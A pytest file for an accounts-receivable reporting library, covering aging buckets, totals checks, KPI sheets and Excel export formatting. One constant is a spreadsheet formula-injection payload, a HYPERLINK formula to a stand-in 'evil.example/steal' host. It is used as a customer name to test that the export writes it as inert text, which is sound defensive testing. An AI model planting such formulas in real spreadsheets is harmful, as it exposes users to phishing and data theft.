"""The pure parts of a report: topic frames with hand-computed values, the totals check, the workbook."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import polars as pl
import pytest

from ar_core.performance import kpi_frame
from ar_core.reporting import (
    Cover,
    Inputs,
    SheetSpec,
    build_sheet,
    checks_json,
    checks_ok,
    load_layouts,
    parse_layout,
    period_for,
    report_xlsx,
    totals_check,
)
from ar_core.schema import MONEY
from tests.conftest import item, items_frame

AS_OF = date(2026, 11, 20)
EDGES = (30, 60, 90, 180, 360)
D = Decimal
EVIL = '=HYPERLINK("http://evil.example/steal","click")'


def ledger() -> pl.DataFrame:
    return items_frame(
        [
            item(doc_no="A", amount="100.00", due_date=date(2026, 11, 25)),
            item(doc_no="B", amount="250.00", due_date=date(2026, 11, 19), customer_name=EVIL),
            item(
                doc_no="C", amount="-40.00", due_date=date(2026, 10, 1), collector="e.dubois", customer_id="2"
            ),
            item(
                doc_no="D",
                amount="500.00",
                due_date=date(2026, 8, 1),
                collector="e.dubois",
                customer_id="2",
                currency="CHF",
            ),
            item(doc_no="E", amount="70.00", due_date=date(2026, 10, 1), clearing_date=date(2026, 11, 10)),
            item(doc_no="F", amount="30.00", due_date=date(2026, 11, 17), collector=None, customer_id="3"),
        ]
    )


def _none(*_args):
    raise AssertionError("this input is not needed by the topic")


def inputs(items: pl.DataFrame | None = None, **given) -> Inputs:
    values = {
        "as_of": AS_OF,
        "today": AS_OF,
        "items": ledger() if items is None else items,
        "reporting": "EUR",
        "edges": EDGES,
        "worklist": _none,
        "promises": _none,
        "open_cases": _none,
        "analysis_cases": _none,
        "kpis": _none,
        "trend": _none,
        "write_offs": _none,
    }
    return Inputs(**{**values, **given})


def sheet_of(topic: str, kind: str = "weekly", inp: Inputs | None = None, **entry):
    layout = parse_layout({"kind": kind, "title": "T", "sheets": [{"topic": topic, **entry}]}, "test.yaml")
    return build_sheet(layout.sheets[0], inp or inputs(), layout)


def rows(sheet) -> list[tuple]:
    return sheet.frame.rows()


def test_periods_week_month_quarter():
    assert period_for("week", AS_OF) == (date(2026, 11, 14), date(2026, 11, 20))
    assert period_for("month", AS_OF) == (date(2026, 10, 1), date(2026, 10, 31))
    assert period_for("month", date(2026, 11, 30)) == (date(2026, 11, 1), date(2026, 11, 30))
    assert period_for("quarter", AS_OF) == (date(2026, 8, 1), date(2026, 10, 31))
    assert period_for("month", date(2026, 1, 15)) == (date(2025, 12, 1), date(2025, 12, 31))


def test_aging_by_collector_per_currency_with_total_rows_and_check_totals():
    sheet = sheet_of("aging", group_by="collector")
    assert [c.heading for c in sheet.columns] == [
        "Group",
        "Currency",
        "not due",
        "1-30",
        "31-60",
        "61-90",
        "91-180",
        "181-360",
        ">360",
        "Total",
    ]
    z = D("0.00")
    assert rows(sheet) == [
        ("(none)", "EUR", z, D("30.00"), z, z, z, z, z, D("30.00")),
        ("c.meyer", "EUR", D("100.00"), D("250.00"), z, z, z, z, z, D("350.00")),
        ("e.dubois", "CHF", z, z, z, z, D("500.00"), z, z, D("500.00")),
        ("e.dubois", "EUR", z, z, D("-40.00"), z, z, z, z, D("-40.00")),
        ("Total", "CHF", z, z, z, z, D("500.00"), z, z, D("500.00")),
        ("Total", "EUR", D("100.00"), D("280.00"), D("-40.00"), z, z, z, z, D("340.00")),
    ]  # E was cleared before the as-of date: not in the aging
    assert sheet.totals == {"EUR": D("340.00"), "CHF": D("500.00")}


def test_the_totals_check_holds_and_fails_when_a_sheet_drops_an_item():
    snapshot = {"EUR": D("340.00"), "CHF": D("500.00")}
    whole = sheet_of("aging", group_by="collector")
    checks = totals_check([whole], snapshot)
    assert checks.rows() == [
        ("Aging", "CHF", D("500.00"), D("500.00"), D("0.00"), True),
        ("Aging", "EUR", D("340.00"), D("340.00"), D("0.00"), True),
    ]
    assert checks_ok(checks)
    short = sheet_of("aging", inp=inputs(ledger().filter(pl.col("doc_no") != "B")), group_by="collector")
    failed = totals_check([short], snapshot)
    assert failed.filter(pl.col("currency") == "EUR").rows() == [
        ("Aging", "EUR", D("90.00"), D("340.00"), D("-250.00"), False)
    ]
    assert not checks_ok(failed)
    assert checks_json(failed)[1] == {
        "name": "Aging",
        "currency": "EUR",
        "report_total": "90.00",
        "snapshot_total": "340.00",
        "difference": "-250.00",
    }
    # a currency the report lacks fails too
    assert not checks_ok(totals_check([whole], {**snapshot, "USD": D("1.00")}))


def test_new_overdue_takes_the_window_of_days():
    one = sheet_of("new_overdue", kind="daily")
    assert [(r[3], r[6], r[7]) for r in rows(one)] == [("B", 1, D("250.00"))]
    three = sheet_of("new_overdue", kind="daily", thresholds={"window_days": 3})
    assert [(r[3], r[6]) for r in rows(three)] == [("B", 1), ("F", 3)]
    none = sheet_of("new_overdue", kind="daily", inp=inputs(ledger().filter(pl.col("doc_no") == "A")))
    assert rows(none)[0][0] == "Nothing fell overdue."


def test_worklist_coverage_counts_the_top_n_of_each_collectors_own_list():
    work = pl.DataFrame(
        {
            "rank": [1, 2, 3, 4],
            "collector": ["c.meyer", "e.dubois", "c.meyer", "c.meyer"],
            "overdue_amount": [D("100.00"), D("0.00"), D("50.00"), D("20.00")],
            "days_since_contact": [2, None, 10, 0],
        },
        schema_overrides={"overdue_amount": MONEY},
    )
    sheet = sheet_of(
        "worklist_coverage",
        kind="daily",
        inp=inputs(worklist=lambda: work),
        thresholds={"top_n": 2, "contact_days": 7},
    )
    assert rows(sheet) == [
        ("c.meyer", 3, 3, 2, 1, D("50.00"), D("170.00"), "EUR"),
        ("e.dubois", 1, 0, 1, 0, D("0.00"), D("0.00"), "EUR"),
        ("Total", 4, 3, 3, 1, D("33.33"), D("170.00"), "EUR"),
    ]


def test_promises_due_are_the_open_ones_up_to_today_plus_days_ahead():
    promises = pl.DataFrame(
        {
            "promise_id": [1, 2, 3],
            "customer_id": ["0000100001", "2", "3"],
            "amount": [D("80.00"), D("60.00"), D("10.00")],
            "currency": ["EUR"] * 3,
            "promised_date": [date(2026, 11, 18), date(2026, 11, 21), date(2026, 11, 15)],
            "status": ["open", "open", "kept"],
            "created_by": ["c.meyer"] * 3,
        },
        schema_overrides={"amount": MONEY},
    )
    due = sheet_of("promises_due", kind="daily", inp=inputs(promises=lambda: promises))
    assert [(r[0], r[2], r[4], r[5]) for r in rows(due)] == [("0000100001", "c.meyer", -2, D("80.00"))]
    ahead = sheet_of(
        "promises_due", kind="daily", inp=inputs(promises=lambda: promises), thresholds={"days_ahead": 1}
    )
    assert [(r[0], r[2], r[4]) for r in rows(ahead)] == [("0000100001", "c.meyer", -2), ("2", "e.dubois", 1)]


def kpi_items() -> pl.DataFrame:
    return items_frame(
        [
            item(doc_no="X", amount="700.00", doc_date=date(2026, 11, 15), due_date=date(2026, 12, 15)),
            item(
                doc_no="Y",
                amount="300.00",
                doc_date=date(2026, 10, 1),
                due_date=date(2026, 10, 31),
                collector="e.dubois",
            ),
        ]
    )


def test_the_kpi_sheet_shows_each_collector_and_the_total_with_inputs():
    items = kpi_items()
    source = lambda by, start, end: kpi_frame(items, start, end, by=by)  # noqa: E731
    sheet = sheet_of(
        "kpis",
        inp=inputs(items, kpis=source),
        group_by="collector",
        columns=[
            "group",
            "start",
            "days",
            "ending_ar",
            "ending_current_ar",
            "credit_sales",
            "dso_simple",
            "best_possible_dso",
            "add",
            "pct_current",
        ],
    )
    # week 14.-20.11.: ending AR 1,000 (current 700), sales 700 (X); DSO 1000/700*7 = 10, best 7, ADD 3
    assert rows(sheet) == [
        (
            "c.meyer",
            date(2026, 11, 14),
            7,
            D("700.00"),
            D("700.00"),
            D("700.00"),
            D("7.00"),
            D("7.00"),
            D("0.00"),
            D("100.00"),
        ),
        ("e.dubois", date(2026, 11, 14), 7, D("300.00"), D("0.00"), D("0.00"), None, None, None, D("0.00")),
        (
            "Total",
            date(2026, 11, 14),
            7,
            D("1000.00"),
            D("700.00"),
            D("700.00"),
            D("10.00"),
            D("7.00"),
            D("3.00"),
            D("70.00"),
        ),
    ]


def test_the_kpi_definitions_give_value_definition_and_inputs():
    items = kpi_items()
    source = lambda by, start, end: kpi_frame(items, start, end, by=by)  # noqa: E731
    sheet = sheet_of(
        "kpi_definitions", kind="monthly", inp=inputs(items, kpis=source), thresholds={"period": "week"}
    )
    first = sheet.frame.row(0, named=True)
    assert (first["kpi"], first["value"], first["unit"]) == ("DSO (simple)", D("10.00"), "days")
    assert first["definition"].startswith("Ending total AR ÷ credit sales")
    assert first["inputs"] == "Ending AR 1,000.00 EUR; Credit sales 700.00 EUR; Days (D) 7"


def test_write_offs_say_so_when_there_are_none():
    empty = pl.DataFrame(
        schema={
            "request_id": pl.Int64(),
            "subject": pl.String(),
            "amount": MONEY,
            "currency": pl.String(),
            "reason": pl.String(),
            "requested_by": pl.String(),
            "decided_by": pl.String(),
            "decided_at": pl.Datetime("us", "UTC"),
        }
    )
    sheet = sheet_of("write_offs", kind="monthly", inp=inputs(write_offs=lambda: empty))
    assert rows(sheet)[0][1] == "No write-off approved from 01.10.2026 to 31.10.2026."


def test_the_workbook_neutralises_formulas_and_formats_money_dates_and_percentages():
    layout = load_layouts(None)["daily"]
    spec = SheetSpec(
        "new_overdue", "New overdue", ("customer_name", "due_date", "amount"), {}, None, {"window_days": 1}
    )
    layout_sheets = [build_sheet(spec, inputs(), layout), sheet_of("aging", group_by="currency")]
    checks = totals_check(layout_sheets, {"EUR": D("340.00"), "CHF": D("500.00")})
    at = datetime(2026, 11, 20, 6, 30, tzinfo=UTC)
    cover = Cover(layout, AS_OF, AS_OF, 1, "EUR", "lena.lead", at, (AS_OF, AS_OF))
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(cover, layout_sheets, checks)))
    assert book.sheetnames == ["About", "New overdue", "Aging", "Totals check"]
    ws = book["New overdue"]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["Name", "Due", "Amount"]
    name, due, amount = ws[2]
    assert (name.value, name.data_type) == ("'" + EVIL, "s")  # text, never a live formula
    assert (due.value.date(), due.number_format) == (date(2026, 11, 19), "dd.mm.yyyy")
    assert (amount.value, amount.number_format) == (250.0, "#,##0.00")
    check = book["Totals check"]
    assert [c.value for c in check[3]] == ["Aging", "EUR", 340.0, 340.0, 0.0, "OK"]
    assert check["C2"].number_format == "#,##0.00"


def test_percent_cells_are_fractions_formatted_as_percent():
    work = pl.DataFrame(
        {"rank": [1], "collector": ["c.meyer"], "overdue_amount": [D("5.00")], "days_since_contact": [1]},
        schema_overrides={"overdue_amount": MONEY},
    )
    sheet = sheet_of("worklist_coverage", kind="daily", inp=inputs(worklist=lambda: work))
    layout = load_layouts(None)["daily"]
    cover = Cover(layout, AS_OF, AS_OF, 1, "EUR", "x", datetime(2026, 11, 20, tzinfo=UTC), (AS_OF, AS_OF))
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(cover, [sheet], totals_check([sheet], {}))))
    cell = book["Worklist coverage"]["F2"]
    assert (cell.value, cell.number_format) == (pytest.approx(1.0), "0.00%")


def test_credit_suggestions_largest_credit_first_with_their_invoices():
    frame = pl.DataFrame(
        {
            "credit_key": ["k1", "k2"],
            "customer_id": ["1", "2"],
            "credit_doc": ["C1", "C2"],
            "credit_amount": [D("10.00"), D("90.00")],
            "invoice_docs": [["I1"], ["I2", "I3"]],
            "amount": [D("10.00"), D("80.00")],
            "residual": [D("0.00"), D("10.00")],
            "currency": ["EUR", "EUR"],
            "rule": ["reference", "many_to_one"],
            "confidence": [0.99, 0.75],
            "status": ["open", "accepted"],
            "decided_by": [None, "lena.lead"],
        },
        schema_overrides={"credit_amount": MONEY, "amount": MONEY, "residual": MONEY},
    )
    sheet = sheet_of(
        "credit_suggestions", inp=inputs(credit_suggestions=lambda: frame), thresholds={"limit": 1}
    )
    assert rows(sheet) == [
        ("2", "C2", D("90.00"), "I2, I3", D("80.00"), D("10.00"), "EUR", "many_to_one", D("75.00"),
         "accepted", "lena.lead")
    ]  # fmt: skip
    assert sheet.note == "2 credit(s), the largest 1 shown."


def test_every_row_of_the_aging_trend_is_checked_against_its_own_snapshot():
    week_before = date(2026, 11, 13)
    older = items_frame(
        [
            item(doc_no="X", amount="80.00", due_date=date(2026, 11, 1)),
            item(doc_no="Y", amount="20.00", currency="CHF", due_date=date(2026, 12, 1)),
        ]
    )
    trend = lambda start: [(week_before, older), (AS_OF, ledger())]  # noqa: E731
    sheet = sheet_of("aging_trend", kind="monthly", inp=inputs(trend=trend))
    now = {"EUR": D("340.00"), "CHF": D("500.00")}  # the aging test's totals at 20.11.
    dated = {week_before: {"EUR": D("80.00"), "CHF": D("20.00")}, AS_OF: now}
    z = D("0.00")
    assert totals_check([sheet], now, dated).rows() == [
        ("Aging trend 13.11.2026", "CHF", D("20.00"), D("20.00"), z, True),
        ("Aging trend 13.11.2026", "EUR", D("80.00"), D("80.00"), z, True),
        ("Aging trend 20.11.2026", "CHF", D("500.00"), D("500.00"), z, True),
        ("Aging trend 20.11.2026", "EUR", D("340.00"), D("340.00"), z, True),
    ]
    # an older snapshot whose stored total is a cent off fails although the last row holds
    off = {**dated, week_before: {"EUR": D("80.01"), "CHF": D("20.00")}}
    failed = totals_check([sheet], now, off)
    assert failed.filter(~pl.col("ok")).rows() == [
        ("Aging trend 13.11.2026", "EUR", D("80.00"), D("80.01"), D("-0.01"), False)
    ]
    assert checks_json(failed)[1]["difference"] == "-0.01"


def test_the_kpi_sheets_beginning_and_ending_ar_are_checked_where_a_snapshot_of_that_day_holds_them():
    items = kpi_items()
    source = lambda by, start, end: kpi_frame(items, start, end, by=by)  # noqa: E731
    sheet = sheet_of("kpis", inp=inputs(items, kpis=source))
    # week 14.-20.11.: beginning AR at 13.11. is Y 300 (X is dated 15.11.), ending AR X + Y = 1,000
    z = D("0.00")
    dated = {date(2026, 11, 13): {"EUR": D("300.00")}, AS_OF: {"EUR": D("1000.00")}}
    assert totals_check([sheet], dated[AS_OF], dated).rows() == [
        ("KPIs: beginning AR 13.11.2026", "EUR", D("300.00"), D("300.00"), z, True),
        ("KPIs: ending AR 20.11.2026", "EUR", D("1000.00"), D("1000.00"), z, True),
    ]
    # no snapshot of 13.11.: the beginning AR is no snapshot's own total, nothing to check
    assert totals_check([sheet], dated[AS_OF], {AS_OF: dated[AS_OF]})["name"].to_list() == [
        "KPIs: ending AR 20.11.2026"
    ]
    # a stored total that differs fails
    wrong = totals_check([sheet], dated[AS_OF], {**dated, AS_OF: {"EUR": D("1000.10")}})
    assert wrong.filter(~pl.col("ok")).rows() == [
        ("KPIs: ending AR 20.11.2026", "EUR", D("1000.00"), D("1000.10"), D("-0.10"), False)
    ]
    # a snapshot that also holds CHF: the KPIs are converted to EUR, no stored total to tie to;
    # a currency with nothing open does not count
    mixed = {
        date(2026, 11, 13): {"EUR": D("300.00"), "CHF": z},
        AS_OF: {"EUR": D("1000.00"), "CHF": D("5.00")},
    }
    assert totals_check([sheet], mixed[AS_OF], mixed)["name"].to_list() == ["KPIs: beginning AR 13.11.2026"]
    # a layout that does not show the ending AR has no such total to check
    hidden = sheet_of("kpis", inp=inputs(items, kpis=source), columns=["group", "dso_simple"])
    assert totals_check([hidden], dated[AS_OF], dated).is_empty()
